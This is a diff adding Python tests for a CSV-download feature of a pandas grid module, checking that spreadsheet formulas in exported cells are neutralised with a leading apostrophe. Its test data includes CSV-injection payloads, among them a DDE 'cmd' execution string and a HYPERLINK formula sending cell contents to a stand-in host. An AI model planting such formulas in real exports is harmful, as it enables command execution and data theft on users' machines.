@@ -165,3 +165,56 @@ def test_gantt_grid_marks_are_the_schedules_states():
 def test_gantt_grid_of_no_activities_is_empty():
     styler = grids.gantt_grid(GANTT.iloc[:0], as_of=3)
     assert styler.data.empty and list(styler.data.columns) == [grids.LABEL, *MONTHS, grids.SOURCE]
+
+
+# ------------------------------------------------------------------ the grid's own CSV download (issue 18.3)
+
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+def test_downloadable_neutralises_the_values_and_shows_the_text_as_written():
+    """What the toolbar's "Download as CSV" writes (the values) carries no formula; the cells show the
+    text as written, and numbers as the grid writes a number without a format."""
+    df = pd.DataFrame({"Teks": [*FORMULAS, "- sudah", "aman", None], "Angka": [1.0, 2.5, 0.123456, *[3.0] * 7],
+                       "Bulat": range(10)})
+    out = grids.downloadable(df)
+    assert out.data["Teks"].tolist()[:9] == ["'" + t for t in FORMULAS] + ["'- sudah", "aman"]
+    assert pd.isna(out.data["Teks"].iloc[9])
+    assert out.data[["Angka", "Bulat"]].equals(df[["Angka", "Bulat"]])
+    display = shown(out)
+    assert display["Teks"].tolist()[:9] == [*FORMULAS, "- sudah", "aman"]
+    assert display["Angka"].tolist()[:3] == ["1", "2.5", "0.1235"] and display["Bulat"].tolist()[:2] == ["0", "1"]
+    assert df["Teks"].iloc[0] == FORMULAS[0]  # the caller's frame is left alone
+
+
+def test_downloadable_leaves_safe_frames_and_other_columns_alone():
+    df = pd.DataFrame({"Satker": ["KPU Kota A"], "Catatan": ["=1+1"]})
+    safe = df[["Satker"]]
+    assert grids.downloadable(safe) is safe
+    only = grids.downloadable(df, columns=("Satker",))
+    assert only is df   # an editor's typed column stays what the user typed
+    assert grids.downloadable(df, columns=("Catatan",)).data["Catatan"].tolist() == ["'=1+1"]
+
+
+def test_downloadable_refuses_a_styler_not_built_neutralised():
+    with pytest.raises(ValueError):
+        grids.downloadable(pd.DataFrame({"x": ["=1+1"]}).style)
+
+
+def test_text_that_reads_the_same_once_neutralised_shows_what_it_holds():
+    out = grids.downloadable(pd.DataFrame({"x": ["=x", "'=x", "=y"]}))
+    assert out.data["x"].tolist() == ["'=x", "'=x", "'=y"]
+    assert shown(out)["x"].tolist() == ["'=x", "'=x", "=y"]
+
+
+def test_grids_are_built_neutralised_and_show_the_text_as_written():
+    acts = acts_frame([(1, FORMULAS[0], None, "- indikator", [1, 2], [1])])
+    gantt = grids.gantt_grid(acts, 3)
+    assert grids.downloadable(gantt) is gantt
+    labels = gantt.data[grids.LABEL].tolist()
+    assert "'" + FORMULAS[0] in labels and not any(str(t).startswith(("=", "+", "-", "@")) for t in labels)
+    assert FORMULAS[0] in shown(gantt)[grids.LABEL].tolist()
+    cells = completion([(FORMULAS[1], 1, 2, 1, True), (FORMULAS[1], "total", 2, 1, True)])
+    rates = grids.rate_grid(cells, [FORMULAS[1]], [1, "total"], col_labels=["Area 1", "Total"])
+    assert rates.data["Satker"].tolist() == ["'" + FORMULAS[1]]
+    assert shown(rates)["Satker"].tolist() == [FORMULAS[1]] and shown(rates)["Total"].tolist() == ["50,0%"]
